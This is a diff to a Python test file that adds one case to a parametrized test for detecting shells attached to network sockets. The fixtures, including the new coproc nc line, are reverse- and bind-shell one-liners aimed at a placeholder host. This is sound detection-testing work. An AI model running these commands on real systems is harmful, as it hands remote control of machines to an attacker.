@@ -51,6 +51,7 @@ def _opaque(text: str) -> set[tuple[str, str]]:
         ("nc -l -p 99 | sh", "bind", "", 99),
         ("bash -i > /dev/tcp/a.b/99 2>&1", "reverse", "a.b", 99),
         ("while read l; do eval $l; done < /dev/tcp/a.b/7", "reverse", "a.b", 7),
+        ("coproc nc a.b 99; sh <&${COPROC[0]} >&${COPROC[1]}", "reverse", "a.b", 99),
     ],
 )
 def test_shell_on_a_socket_is_noted(text: str, direction: str, host: str, port: int) -> None:
